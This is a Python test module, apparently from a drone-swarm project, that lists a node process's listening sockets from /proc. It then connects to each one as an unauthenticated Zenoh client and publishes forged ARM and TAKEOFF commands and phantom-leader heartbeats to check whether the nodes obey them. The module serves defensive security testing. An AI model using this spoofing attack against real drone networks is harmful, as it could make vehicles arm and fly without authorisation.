"""An attacker on the IP side: every socket a running node listens on, and what it lets in.

Theory of operation
-------------------
:func:`listeners` finds, from the process itself and not from what it was told, every
socket a process ``pid`` could be reached on: its open descriptors
(``/proc/PID/fd``, ``socket:[INODE]``) matched against its network namespace's
tables (``/proc/PID/net/tcp``, ``tcp6``, ``udp``, ``udp6``, ``unix``). A TCP socket
counts when it is in state LISTEN, a UDP socket when it is bound and not connected
(it takes datagrams from anyone), a Unix socket when it accepts connections or is a
datagram socket bound to a name.

:func:`attack` is what anyone who reaches one of them would try: a Zenoh session in
client mode (no listener of its own) connecting there, plainly and with TLS but no
certificate, subscribing to everything (``**``), and publishing, several times, a
station's Commands (ARM, TAKEOFF) to each named agent on its inbox ``swarm/<name>``
and on its command key ``swarm/<name>/command``, a phantom leader's Heartbeats and
Advertize, and a query of the stations' command queryables. It reports whether a
session opened at all and every sample it received (:class:`AttackReport`); what the
node did about it (executed, followed, refused) is for the caller to read from the
node's own outputs. The tests use it (``tests/test_ip_edge_attack.py``), and the fault
bench can: one attacker per listener of every process it started.
"""

from __future__ import annotations

import ipaddress
import json
import os
import re
import threading
import time
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any

#: /proc/net/tcp's state of a listening socket
TCP_LISTEN = "0A"
#: /proc/net/unix: the flag of a socket that accepts connections (__SO_ACCEPTCON)
UNIX_ACCEPTCON = 0x10000
UNIX_DGRAM = 2
#: the id a forged leader uses (no real agent has it)
PHANTOM_ID = 200
#: the attacker's Commands carry sequence numbers from here (ARM), +1000 (TAKEOFF)
ATTACK_SEQ = 60000


@dataclass(frozen=True)
class Listener:
    """One socket a process can be reached on: ``proto`` (tcp, tcp6, udp, udp6, unix),
    ``host`` and ``port`` (IP) or ``path`` (Unix; abstract names start with ``@``)."""

    proto: str
    host: str = ""
    port: int = 0
    path: str = ""

    def describe(self) -> str:
        if self.proto == "unix":
            return f"unix {self.path}"
        host = f"[{self.host}]" if ":" in self.host else self.host
        return f"{self.proto} {host}:{self.port}"

    def zenoh_endpoints(self) -> list[str]:
        """Where a Zenoh session would connect to reach it (a wildcard address through
        loopback)."""
        if self.proto == "unix":
            return [] if self.path.startswith("@") else [f"unixsock-stream/{self.path}"]
        host = self.host
        if host in ("0.0.0.0", "::"):
            host = "127.0.0.1" if self.proto in ("tcp", "udp") else "::1"
        host = f"[{host}]" if ":" in host else host
        if self.proto.startswith("udp"):
            return [f"udp/{host}:{self.port}"]
        return [f"tcp/{host}:{self.port}", f"tls/{host}:{self.port}"]


def _inodes(pid: int) -> set[str]:
    out = set()
    fd_dir = f"/proc/{pid}/fd"
    for fd in os.listdir(fd_dir):
        try:
            target = os.readlink(f"{fd_dir}/{fd}")
        except OSError:  # closed meanwhile
            continue
        if target.startswith("socket:["):
            out.add(target[8:-1])
    return out


def _ip(hex_addr: str) -> str:
    """/proc/net's address: 8 hex digits (IPv4) or 32 (IPv6), each 32-bit word in the
    host's (little-endian) order."""
    raw = bytes.fromhex(hex_addr)
    words = b"".join(raw[i : i + 4][::-1] for i in range(0, len(raw), 4))
    return str(ipaddress.ip_address(words))


def listeners(pid: int) -> list[Listener]:
    """Every socket process ``pid`` listens on (see the module docstring). Raises
    OSError when the process is gone or not ours to look at."""
    inodes = _inodes(pid)
    found: list[Listener] = []
    for proto in ("tcp", "tcp6", "udp", "udp6"):
        try:
            with open(f"/proc/{pid}/net/{proto}", encoding="ascii") as fh:
                rows = fh.read().splitlines()[1:]
        except FileNotFoundError:  # no IPv6 in this kernel
            continue
        for row in rows:
            f = row.split()
            if len(f) < 10 or f[9] not in inodes:
                continue
            local, remote, state = f[1], f[2], f[3]
            host_hex, port_hex = local.split(":")
            remote_port = int(remote.split(":")[1], 16)
            if proto.startswith("tcp") and state != TCP_LISTEN:
                continue
            if proto.startswith("udp") and remote_port != 0:
                continue  # connected: takes datagrams from its peer only
            found.append(Listener(proto, _ip(host_hex), int(port_hex, 16)))
    with open(f"/proc/{pid}/net/unix", encoding="ascii", errors="replace") as fh:
        for row in fh.read().splitlines()[1:]:
            f = row.split()
            if len(f) < 7 or f[6] not in inodes:
                continue
            flags, kind = int(f[3], 16), int(f[4], 16)
            path = f[7] if len(f) > 7 else ""
            if flags & UNIX_ACCEPTCON or (kind == UNIX_DGRAM and path):
                found.append(Listener("unix", path=path))
    return found


@dataclass
class AttackReport:
    """What one attacker got at one listener: ``opened`` the Zenoh endpoints a session
    opened on (none: nothing there speaks Zenoh to a stranger), ``received`` every
    sample's key (what it learnt), ``sent`` how many messages it published."""

    listener: str
    opened: list[str] = field(default_factory=list)
    received: list[str] = field(default_factory=list)
    sent: int = 0
    errors: list[str] = field(default_factory=list)

    def as_dict(self) -> dict[str, Any]:
        return {
            "listener": self.listener,
            "opened": list(self.opened),
            "received": len(self.received),
            "keys": sorted(set(self.received))[:20],
            "sent": self.sent,
        }


def forgeries(
    agents: dict[str, int], station_id: int = 255, phantom_id: int = PHANTOM_ID
) -> list[tuple[str, bytes]]:
    """The (key, payload) pairs an attacker publishes: a station's ARM and TAKEOFF to
    each agent (on its inbox and on its command key), a phantom leader's Advertize and
    Heartbeats naming every agent its member."""
    from swarm.core.wire.message_types import Advertize, Command, CommandKind, Heartbeat
    from swarm.core.wire.messages import encode

    members = frozenset(agents.values())
    out: list[tuple[str, bytes]] = [("swarm/advertize", encode(Advertize(phantom_id, "phantom")))]
    for seq, (name, aid) in enumerate(sorted(agents.items()), start=ATTACK_SEQ):
        arm = encode(Command(station_id, seq, aid, CommandKind.ARM))
        takeoff = encode(Command(station_id, seq + 1000, aid, CommandKind.TAKEOFF, alt=10.0))
        hb = encode(Heartbeat(phantom_id, 0xBEEF, seq % 200, members))
        for key in (f"swarm/{name}", f"swarm/{name}/command"):
            out += [(key, arm), (key, takeoff)]
        out.append((f"swarm/{name}", hb))
    return out


def _session(endpoint: str, timeout_s: float) -> Any:
    import zenoh

    cfg = zenoh.Config()
    cfg.insert_json5("mode", '"client"')
    cfg.insert_json5("scouting/multicast/enabled", "false")
    cfg.insert_json5("listen/endpoints", "[]")
    cfg.insert_json5("connect/endpoints", json.dumps([endpoint]))
    cfg.insert_json5("connect/timeout_ms", str(int(timeout_s * 1000)))
    return zenoh.open(cfg)


def attack(
    listener: Listener,
    agents: dict[str, int],
    *,
    duration_s: float = 3.0,
    rounds: int = 5,
    open_timeout_s: float = 2.0,
    phantom_id: int = PHANTOM_ID,
) -> AttackReport:
    """Try every Zenoh endpoint that reaches ``listener`` as a stranger would (see the
    module docstring), for ``duration_s`` seconds each."""
    import zenoh

    report = AttackReport(listener.describe())
    lock = threading.Lock()

    def heard(sample: Any) -> None:
        with lock:
            report.received.append(str(sample.key_expr))

    for ep in listener.zenoh_endpoints():
        try:
            session = _session(ep, open_timeout_s)
        except Exception as exc:  # nothing there speaks Zenoh to us: the attack ends here
            report.errors.append(f"{ep}: {str(exc).splitlines()[0][:120]}")
            continue
        report.opened.append(ep)
        try:
            remote = zenoh.Locality.REMOTE  # not the attacker's own puts
            subs = [
                session.declare_subscriber(k, heard, allowed_origin=remote)
                for k in ("**", "swarm/**", "gcs/**")
            ]
            time.sleep(0.3)  # the subscriptions reach the other side before the puts
            for _ in range(rounds):
                for key, payload in forgeries(agents, phantom_id=phantom_id):
                    session.put(key, payload)
                    report.sent += 1
                try:  # the stations' command queryables, as another station would ask
                    for _reply in session.get("gcs/**", timeout=0.2):
                        with lock:
                            report.received.append("a reply on gcs/**")
                except Exception:
                    pass
                time.sleep(duration_s / rounds)
            for s in subs:
                s.undeclare()
        finally:
            session.close()
    return report


def attack_all(pids: dict[str, int], agents: dict[str, int], **kw: Any) -> dict[str, list[AttackReport]]:
    """:func:`attack` on every listener of every process in ``pids`` (name -> pid)."""
    return {name: [attack(lst, agents, **kw) for lst in listeners(pid)] for name, pid in pids.items()}


def describe(found: Iterable[Listener]) -> list[str]:
    return [x.describe() for x in found]


_SEQ = re.compile(r"\bseq (\d+)\b")


def executed(events: Iterable[dict[str, Any]]) -> list[str]:
    """The attacker's commands among an agent's ``pilot`` events (``--json`` lines:
    ``command ARM seq 60000 from 255: ACCEPTED``), by their sequence numbers."""
    out = []
    for e in events:
        text = str(e.get("text", ""))
        m = _SEQ.search(text)
        if text.startswith("command ") and m and ATTACK_SEQ <= int(m.group(1)) < ATTACK_SEQ + 2000:
            out.append(text)
    return out


__all__ = [
    "ATTACK_SEQ",
    "PHANTOM_ID",
    "AttackReport",
    "Listener",
    "attack",
    "attack_all",
    "describe",
    "executed",
    "forgeries",
    "listeners",
]
